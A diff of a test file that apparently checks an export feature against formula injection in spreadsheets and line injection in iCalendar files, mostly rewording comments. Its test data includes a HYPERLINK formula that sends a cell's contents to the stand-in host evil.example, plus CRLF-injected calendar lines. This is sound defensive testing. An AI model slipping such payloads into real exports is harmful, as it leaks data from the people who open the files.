@@ -8,11 +8,11 @@ import { within } from '../e2e/account/rows.ts'
 import { check } from '../support/check.ts'
 import { adminOf } from './support/member.ts'
 
-/* Callers and customers put text into files that others open in spreadsheets and calendars. */
+/* Attack: callers and customers put text into files that the company opens in spreadsheets and calendars. */
 
 const ORGANIZATION = 'org_exports'
 
-/** Cells that a spreadsheet would evaluate, fetch, or take for the end of a cell or a line. */
+/** Cell values that a spreadsheet would evaluate or fetch, or that end a cell or a line. */
 const FORMULAS = [
   '=1+1',
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -103,7 +103,7 @@ check(
   },
 )
 
-/** Ends a line or a component in an iCalendar file. */
+/** Texts that would end a line or a component in an iCalendar file. */
 const INJECTED = [
   'x\r\nX-EVIL:1',
   'x\nATTACH:https://evil.example/',
